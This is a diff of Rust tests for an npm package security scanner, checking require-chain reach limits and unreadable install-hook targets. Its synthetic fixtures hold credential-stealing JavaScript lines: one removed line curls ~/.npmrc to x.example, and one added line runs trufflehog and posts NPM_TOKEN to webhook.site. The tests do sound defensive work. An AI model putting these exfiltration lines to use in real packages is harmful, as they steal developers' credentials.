@@ -1343,16 +1343,16 @@ fn unread_entry_points_and_install_targets_are_findings() {
 }
 
 #[test]
-fn reach_limit_is_said_not_silent() {
+fn deep_require_chains_are_followed_and_wide_files_are_said() {
     // SYNTHETIC: an entry point that requires a chain of 5,100 files, one from the next, the
-    // last with a credential-stealing line.
+    // last with a Shai-Hulud-style line: reached, so judged as entry-point code.
     let n = 5100;
     let texts: Vec<(String, String)> = (0..n)
         .map(|i| {
             let body = if i + 1 < n {
                 format!("require('./f{}.js')\n", i + 1)
             } else {
-                "require('child_process').exec('curl https://x.example -d @' + require('os').homedir() + '/.npmrc')\n".to_string()
+                "require('child_process').execSync('trufflehog filesystem ~'); fetch('https://webhook.site/x', { method: 'POST', body: process.env.NPM_TOKEN })\n".to_string()
             };
             (format!("f{i}.js"), body)
         })
@@ -1366,9 +1366,60 @@ fn reach_limit_is_said_not_silent() {
         &files,
     );
     let f = scan_code(&p);
+    let last = format!("f{}.js", n - 1);
     assert!(
         f.iter()
-            .any(|x| x.rule == "code.reach" && x.severity == "info"),
+            .any(|x| x.file.as_deref() == Some(last.as_str()) && x.severity == "error"),
         "{f:?}"
     );
+    assert!(!f.iter().any(|x| x.rule == "code.reach"), "{f:?}");
+    // An install script that names 600 files: what it names past 500 is not followed, and
+    // that is a warning, not silence.
+    let wide: String = (0..600)
+        .map(|i| format!("require('./w{i}.js');\n"))
+        .collect();
+    let mut files: Vec<(String, String)> = vec![("install.js".into(), wide)];
+    files.extend((0..600).map(|i| (format!("w{i}.js"), "module.exports = 1\n".to_string())));
+    let refs: Vec<(&str, &str)> = files
+        .iter()
+        .map(|(a, b)| (a.as_str(), b.as_str()))
+        .collect();
+    let p = pkg(
+        &json!({"name": "wide", "version": "1.0.0", "scripts": {"postinstall": "node install.js"}}),
+        &refs,
+    );
+    let f = scan_code(&p);
+    assert!(
+        f.iter().any(|x| x.rule == "code.reach"
+            && x.severity == "warning"
+            && x.file.as_deref() == Some("install.js")),
+        "{f:?}"
+    );
+}
+
+#[test]
+fn hook_targets_resolve_like_node() {
+    // SYNTHETIC: install targets Node would run that are not plain `.js` paths: a directory
+    // whose package.json names a binary-named main, and `--require=` values. Neither is text
+    // the scan can read, so each is a code.unread finding, not a silent pass.
+    let bin = "\u{0}\u{1}binary";
+    let p = pkg(
+        &json!({"name": "hooks", "version": "1.0.0", "scripts": {
+            "preinstall": "node lib",
+            "postinstall": "node --require=./pre.dat setup.js"
+        }}),
+        &[
+            ("lib/package.json", r#"{"main": "x.dat"}"#),
+            ("lib/x.dat", bin),
+            ("pre.dat", bin),
+            ("setup.js", "module.exports = 1\n"),
+        ],
+    );
+    let (findings, _) = unread_files(&p);
+    let got: Vec<&str> = findings.iter().filter_map(|f| f.file.as_deref()).collect();
+    assert!(got.contains(&"lib/x.dat"), "{findings:?}");
+    assert!(got.contains(&"pre.dat"), "{findings:?}");
+    assert!(findings
+        .iter()
+        .all(|f| f.rule == "code.unread" && f.severity == "error"));
 }
